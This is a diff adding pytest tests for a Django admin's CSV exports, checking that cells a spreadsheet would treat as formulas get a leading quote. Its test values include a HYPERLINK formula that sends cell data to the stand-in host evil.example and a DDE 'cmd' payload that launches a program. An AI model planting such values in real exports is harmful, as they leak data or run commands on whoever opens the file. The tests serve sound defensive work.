@@ -1,0 +1,75 @@
+"""Every CSV export of the admin neutralises cells a spreadsheet would run as a
+formula (issue 18, finding 9): subscribers, accounts and the video download log."""
+
+import csv
+import io
+
+import pytest
+
+from accounts.models import User
+from cms.exports import neutralise_formula
+from newsletter.models import Subscriber
+from videos.models import VideoDownload
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def rows(response) -> list[dict]:
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(content)))
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+33 1 23 45", "'+33 1 23 45"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Daily Planet", "Daily Planet"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-5, -5),
+        (None, None),
+    ],
+)
+def test_neutralise_formula(value, expected):
+    assert neutralise_formula(value) == expected
+
+
+def test_subscribers(admin_client):
+    Subscriber.objects.create(email="+1+cmd@example.org", language="en")
+    Subscriber.objects.create(email="plain@example.org", language="en")
+    exported = rows(
+        admin_client.get("/admin/newsletter/subscribers/", {"export": "csv"})
+    )
+    emails = {row["E-mail address"] for row in exported}
+    assert {"'+1+cmd@example.org", "plain@example.org"} <= emails
+
+
+def test_accounts(admin_client):
+    User.objects.create_user("attacker@example.org", "x", organisation=FORMULA)
+    User.objects.create_user("fine@example.org", "x", organisation="Radio Lac")
+    exported = rows(admin_client.get("/admin/accounts/", {"export": "csv"}))
+    by_email = {row["E-mail address"]: row for row in exported}
+    assert by_email["attacker@example.org"]["Organisation"] == "'" + FORMULA
+    assert by_email["fine@example.org"]["Organisation"] == "Radio Lac"
+
+
+def test_video_downloads(admin_client):
+    user = User.objects.create_user("a@example.org", "x", organisation="@SUM(1+1)")
+    VideoDownload.objects.create(
+        user=user,
+        video_title="-1+1",
+        language="en",
+        rendition="180p",
+        kind="full",
+    )
+    [row] = rows(admin_client.get("/admin/reports/video-downloads/?export=csv"))
+    assert row["Organisation"] == "'@SUM(1+1)"
+    assert row["Video"] == "'-1+1"
